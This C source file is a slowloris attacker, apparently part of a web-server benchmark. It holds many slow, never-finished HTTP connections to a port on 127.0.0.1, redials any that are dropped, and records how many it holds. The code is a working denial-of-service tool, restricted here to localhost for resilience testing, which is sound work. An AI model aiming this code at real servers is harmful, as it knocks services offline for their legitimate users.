/*
 * slowloris-attack: the attacker of bench/knot/slowloris (issue 13).
 *
 *     slowloris-attack PORT N STATUS_FILE
 *
 * Holds N connections to 127.0.0.1:PORT, each sending a request line and
 * a Host line at once, then one more header byte every 5 s, never the
 * blank line; a connection the server drops is dialled again at once.
 * Once a second it writes to STATUS_FILE how many connections have sent
 * their first bytes.  Runs until killed.
 *
 * In C with epoll rather than in a script, so that the attack costs the
 * shared machine little CPU of its own: the bench measures what the
 * attack does to the server, and an attacker that used a quarter of a
 * core would take it from the legitimate clients and the server alike
 * (a Python version did, and the figures measured it).  Trickling is a
 * fiftieth of the connections every 100 ms, round robin over a ring:
 * O(N / 50) work per tick, nothing per connection in between.
 */
#define _GNU_SOURCE 1
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* Dials per 10 ms: 2,000 a second at most.  A slowloris holds connections
   and comes back when dropped; dialling faster is a connection flood, a
   different attack (measured once: at 20,000 a second the accept queue
   stays full of attackers at the cap and Knot served 0.10x, nginx 0.68x). */
#define DIALS 20u

static const char head[] = "GET /100b.html HTTP/1.1\r\nHost: x\r\n";
static const char trickle[] = "X-a: b\r\n";

/* Per connection slot: its socket (-1: to dial) and the bytes trickled. */
struct slot {
    int fd;
    int sent_head;
    unsigned trickled;
};

static struct sockaddr_in addr;
static int ep;

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void drop(struct slot *s)
{
    if (s->fd >= 0)
        close(s->fd); /* also leaves the epoll set */
    s->fd = -1;
    s->sent_head = 0;
}

/* Dials slot S (number IDX); 0, or -1 when the system refused. */
static int dial(struct slot *s, uint32_t idx)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    struct epoll_event ev = { EPOLLOUT | EPOLLIN | EPOLLRDHUP, { .u32 = idx } };

    if (fd < 0)
        return -1;
    if ((connect(fd, (struct sockaddr *)&addr, sizeof addr) != 0 && errno != EINPROGRESS) ||
        epoll_ctl(ep, EPOLL_CTL_ADD, fd, &ev) != 0) {
        close(fd);
        return -1;
    }
    s->fd = fd;
    s->sent_head = 0;
    s->trickled = 0;
    return 0;
}

int main(int argc, char **argv)
{
    struct rlimit rl;
    struct epoll_event evs[256];
    char sink[4096];

    if (argc != 4) {
        fprintf(stderr, "usage: slowloris-attack PORT N STATUS_FILE\n");
        return 2;
    }
    int port = atoi(argv[1]);
    uint32_t n = (uint32_t)strtoul(argv[2], NULL, 10);
    const char *status = argv[3];
    getrlimit(RLIMIT_NOFILE, &rl);
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
    addr.sin_family = AF_INET;
    addr.sin_port = htons((uint16_t)port);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ep = epoll_create1(EPOLL_CLOEXEC);
    struct slot *slots = calloc(n, sizeof *slots);
    if (ep < 0 || slots == NULL) {
        perror("slowloris-attack");
        return 1;
    }
    for (uint32_t i = 0; i < n; i++)
        slots[i].fd = -1;

    uint32_t ring = 0, redial = 0;
    int64_t next_tick = now_ms(), next_status = next_tick, next_dial = next_tick;
    for (;;) {
        /* Dial what is missing: at most DIALS every 10 ms, and none more
           once the system refuses one (ports or descriptors exhausted),
           so that the attacker's own CPU stays small however the server
           answers. */
        if (now_ms() >= next_dial) {
            for (uint32_t k = 0, dials = 0; k < n && dials < DIALS; k++, redial = (redial + 1) % n)
                if (slots[redial].fd < 0) {
                    if (dial(&slots[redial], redial) != 0)
                        break;
                    dials++;
                }
            next_dial = now_ms() + 10;
        }
        int m = epoll_wait(ep, evs, 256, 10);
        for (int i = 0; i < m; i++) {
            struct slot *s = &slots[evs[i].data.u32];
            if (s->fd < 0)
                continue;
            if (evs[i].events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) {
                drop(s);
                continue;
            }
            if (evs[i].events & EPOLLIN) {
                /* A response (408, 503...) or the end: drop, dial again. */
                ssize_t r = recv(s->fd, sink, sizeof sink, 0);
                if (r <= 0 || !s->sent_head) {
                    drop(s);
                    continue;
                }
            }
            if ((evs[i].events & EPOLLOUT) && !s->sent_head) {
                struct epoll_event ev = { EPOLLIN | EPOLLRDHUP, { .u32 = evs[i].data.u32 } };
                if (send(s->fd, head, sizeof head - 1, MSG_NOSIGNAL) != (ssize_t)sizeof head - 1) {
                    drop(s);
                    continue;
                }
                s->sent_head = 1;
                epoll_ctl(ep, EPOLL_CTL_MOD, s->fd, &ev);
            }
        }
        int64_t t = now_ms();
        if (t >= next_tick) {
            /* A fiftieth every 100 ms: each connection a byte every 5 s. */
            uint32_t k = n / 50 ? n / 50 : 1;
            for (uint32_t j = 0; j < k; j++, ring = (ring + 1) % n) {
                struct slot *s = &slots[ring];
                if (s->fd < 0 || !s->sent_head)
                    continue;
                const char *c = &trickle[s->trickled++ % (sizeof trickle - 1)];
                if (send(s->fd, c, 1, MSG_NOSIGNAL) != 1 && errno != EAGAIN)
                    drop(s);
            }
            next_tick = t + 100;
        }
        if (t >= next_status) {
            uint32_t held = 0;
            char tmp[512];
            for (uint32_t i = 0; i < n; i++)
                held += slots[i].sent_head;
            snprintf(tmp, sizeof tmp, "%s.new", status);
            FILE *f = fopen(tmp, "w");
            if (f != NULL) {
                fprintf(f, "%u\n", held);
                fclose(f);
                rename(tmp, status);
            }
            next_status = t + 1000;
        }
    }
}
